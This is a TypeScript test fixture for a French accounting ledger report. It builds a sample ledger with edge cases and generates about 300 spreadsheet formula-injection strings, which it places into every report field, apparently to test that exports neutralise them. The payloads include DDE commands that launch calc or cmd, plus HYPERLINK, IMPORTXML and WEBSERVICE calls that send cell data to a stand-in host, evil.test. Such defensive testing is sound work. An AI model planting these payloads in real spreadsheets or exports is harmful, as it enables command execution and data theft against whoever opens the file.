import { calendarDate } from '../../core/kernel/calendar-date.ts'
import { cents } from '../../core/kernel/money.ts'
import type { Report, ReportRow } from '../../core/reporting/report.ts'

/** A ledger as the core makes it, with every kind of row, a leap day, a negative amount and the largest cents. */
export function sampleReport(changes: Partial<Report> = {}): Report {
  const word = (id: string): { readonly id: string } => ({ id })
  const column = (key: string, type: 'text' | 'date' | 'amount', width: number): Report['columns'][number] => ({ key, type, width, label: word(`report.column.${key}`) })
  return {
    name: 'grand-livre', title: word('report.ledger'), entity: { code: 'ATELIER', name: 'Atelier & fils <bois>' },
    from: calendarDate('2024-01-01'), to: calendarDate('2024-12-31'), madeOn: calendarDate('2026-11-21'), currency: 'EUR',
    status: 'draft', demonstration: false, anchor: 'ATELIER-A/12:9f86d081884c7d65',
    columns: [column('date', 'date', 2), column('entry', 'text', 3), column('label', 'text', 6), column('debit', 'amount', 3), column('credit', 'amount', 3), column('balance', 'amount', 3)],
    rows: ROWS,
    ...changes,
  }
}

const amount = (value: number): { readonly amountCents: ReturnType<typeof cents> } => ({ amountCents: cents(value) })

const ROWS: readonly ReportRow[] = [
  { kind: 'heading', level: 0, cells: [{ text: '440000 Fournisseurs' }, null, null, null, null, amount(0)] },
  { kind: 'row', level: 1, cells: [{ date: calendarDate('2024-02-29') }, { text: '2024/ACH/1' }, { text: 'Œuvre d’été, 50 € de bois' }, null, amount(123_456_789), amount(-123_456_789)] },
  { kind: 'row', level: 1, cells: [{ date: calendarDate('2024-12-31') }, { text: '0007' }, { text: 'Note de crédit' }, amount(10), null, amount(-123_456_779)] },
  { kind: 'row', level: 1, cells: [{ date: calendarDate('2024-12-31') }, { text: '+32 475 12 34 56' }, { text: 'Très grand' }, amount(90_071_992_547_409), null, null] },
  { kind: 'subtotal', level: 0, cells: [null, null, { id: 'report.total' }, amount(90_071_992_547_419), amount(123_456_789), amount(-123_456_779)] },
  { kind: 'total', level: 0, cells: [null, null, { id: 'report.total' }, amount(90_071_992_547_419), amount(123_456_789), null] },
]

/** 300 texts that spreadsheets have run as formulas: each sign, behind each disguise, before each payload. */
export function hostileTexts(): string[] {
  const signs = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\u0000=', '\uff1d', '\uff0b', '\uff0d', '\uff20', ' =', '\u00a0=', '|', '=+', '-+', "'=", '"=', ';=', '\u200b=', '\ufeff=', '%0A=', '==', '=-']
  const payloads = [
    '1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.test?x="&A1,"open")', 'IMPORTXML("http://evil.test","//a")', 'WEBSERVICE("http://evil.test")',
    'DDE("cmd";"/C calc";"x")', 'SUM(1+9)*cmd|\' /C calc\'!A0', '10+20+cmd|\'/C notepad\'!\'A1\'', 'MSEXCEL|\'\\..\\..\\cmd.exe\'!\'\'', 'INDIRECT("A1")', 'A1', 'EXEC("calc")',
  ]
  return signs.flatMap((sign) => payloads.map((payload) => sign + payload))
}

/** The same report with one hostile text in each field that data can fill. */
export function hostileReport(text: string): Report {
  const sample = sampleReport()
  return {
    ...sample,
    entity: { code: 'X', name: text },
    notes: [{ text }],
    columns: sample.columns.map((column, index) => (index === 2 ? { ...column, label: { text } } : column)),
    rows: [{ kind: 'row', level: 0, cells: [{ date: calendarDate('2024-01-01') }, { text }, { text }, amount(-1250), null, null] }],
  }
}
